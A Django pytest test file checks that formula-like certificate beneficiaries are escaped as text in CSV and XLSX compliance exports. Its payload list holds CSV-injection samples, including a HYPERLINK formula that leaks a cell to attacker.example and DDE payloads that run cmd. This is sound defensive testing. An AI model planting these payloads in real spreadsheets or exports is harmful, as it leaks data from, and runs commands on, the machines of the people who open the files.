"""A member-chosen certificate beneficiary that a spreadsheet would run as a formula reaches the
auditor's CSV and XLSX as text (escaped with a leading apostrophe), and the report still
verifies."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.compliance.reports import report_verify
from apps.compliance.reports.document import DATA_MARKER
from apps.incentives.models import Certificate

from .conftest import MONTH

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _download(client, fmt):
    url = reverse("compliance:report_download", args=["certificate_registry", fmt])
    return client.get(url, {"month": MONTH})


def test_formula_text_is_escaped_in_csv_and_xlsx_and_the_report_verifies(world, auditor_client):
    certificates = list(Certificate.objects.order_by("pk")[: len(PAYLOADS)])
    assert len(certificates) == len(PAYLOADS)
    for certificate, payload in zip(certificates, PAYLOADS, strict=True):
        Certificate.objects.filter(pk=certificate.pk).update(beneficiary=payload)

    csv_file = _download(auditor_client, "csv")
    assert csv_file.status_code == 200
    data = csv_file.content.decode().split(DATA_MARKER + "\n", 1)[1]
    cells = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
        assert payload not in cells, payload
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    # intact and sealed; its content hash waits in the outbox for the chain
    assert report_verify(csv_file.content, against_db=True).verdict == "NOT_YET_ANCHORED"

    xlsx_file = _download(auditor_client, "xlsx")
    workbook = load_workbook(io.BytesIO(xlsx_file.content))
    texts = {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for payload in PAYLOADS:
        assert "'" + payload in texts
        assert payload not in texts
    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    assert report_verify(xlsx_file.content, against_db=True).verdict == "NOT_YET_ANCHORED"
